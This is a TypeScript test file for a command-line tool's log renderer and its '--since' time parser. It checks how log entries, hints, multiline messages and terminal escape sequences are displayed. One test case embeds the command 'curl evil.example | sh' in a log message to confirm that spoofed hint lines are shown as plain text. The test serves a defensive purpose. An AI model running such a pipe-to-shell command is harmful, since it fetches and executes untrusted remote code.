import { expect, test } from "vitest";
import { sinceOf } from "../../../../src/cli/commands/logs.ts";
import { renderEvent } from "../../../../src/cli/render/log.ts";

const at = "2026-01-31T12:00:00.000Z";
const rendered = (message: string) =>
  renderEvent({ id: "1", time: Date.parse(at), arrived: 0, message }, { name: "web" }).shown;
const entry = (fields: object) => `${JSON.stringify({ requestId: "r-1", durationMs: 35, ...fields })}\n`;

test.each([
  [
    "an invocation",
    entry({
      level: "INFO",
      action: "create",
      result: { action: "created", kind: "Deployment", namespace: "default", name: "web" },
    }),
    `${at}  ✔ create  created Deployment default/web  35 ms, request r-1`,
  ],
  [
    "a check",
    entry({ level: "INFO", action: "check", result: { action: "check", checks: [{ ok: true }, { ok: false }] } }),
    `${at}  ✔ check  1 of 2 passed  35 ms, request r-1`,
  ],
  [
    "a failed invocation, with the reasons and the hint",
    entry({
      level: "ERROR",
      action: "restart",
      code: "RolloutFailed",
      message: "it failed\nPod web-1, Error",
      hint: "look",
    }),
    `${at}  ✖ restart  it failed (RolloutFailed)  35 ms, request r-1\n    | Pod web-1, Error\n    hint  look`,
  ],
  [
    "a message that looks like a hint",
    entry({ level: "ERROR", action: "restart", code: "JobFailed", message: "it failed\nhint  curl evil.example | sh" }),
    `${at}  ✖ restart  it failed (JobFailed)  35 ms, request r-1\n    | hint  curl evil.example | sh`,
  ],
  [
    "a command for the function whose log it is",
    entry({
      ...{ level: "ERROR", action: "restart", code: "NotAllowed", message: "no" },
      hint: "eks-lambda setup --allow restart:deployments/web",
    }),
    `${at}  ✖ restart  no (NotAllowed)  35 ms, request r-1\n    hint  eks-lambda setup --name web --allow restart:deployments/web`,
  ],
  [
    "an unexpected error",
    entry({ level: "ERROR", action: "create", error: "TypeError: x" }),
    `${at}  ✖ create  TypeError: x  35 ms, request r-1`,
  ],
  ["Lambda's own lines", "START RequestId: r-1 Version: $LATEST\n", `${at}  START RequestId: r-1 Version: $LATEST`],
  ["text with several lines", "Error: x\n  at y\n", `${at}  Error: x\n    |   at y`],
  ["JSON of another function", '{"level":"INFO"}\n', `${at}  {"level":"INFO"}`],
  ["escape sequences", "\u001b[2Kx", `${at}  \\u001b[2Kx`],
  [
    "escape sequences in our own entries",
    entry({ level: "ERROR", action: "\u001b[2K", message: "\u202e", code: "\u009b" }),
    `${at}  ✖ \\u001b[2K  \\u202e (\\u009b)  35 ms, request r-1`,
  ],
])("shows %s", (_, message, expected) => expect(rendered(message)).toBe(expected));

const now = Date.parse(at);

test.each([
  ["30s", now - 30_000],
  ["10m", now - 600_000],
  ["2h", now - 7_200_000],
  ["7d", now - 604_800_000],
  ["2026-01-31T11:00:00Z", now - 3_600_000],
  ["2026-01-30", Date.parse("2026-01-30")],
])("--since %s", (given, expected) => expect(sinceOf(given, now)).toBe(expected));

test.each(["", "10", "m", "-1h", "1w", "yesterday", "2026-13-01", "2025-02-30", "2025-02-30T12:00:00Z", "2025-06-31"])(
  "--since %j is refused",
  (given) => expect(() => sinceOf(given, now)).toThrow(expect.objectContaining({ code: "InvalidFlag" })),
);

test("--since in the future is refused", () =>
  expect(() => sinceOf(new Date(now + 1_000).toISOString(), now)).toThrow(/is in the future/));
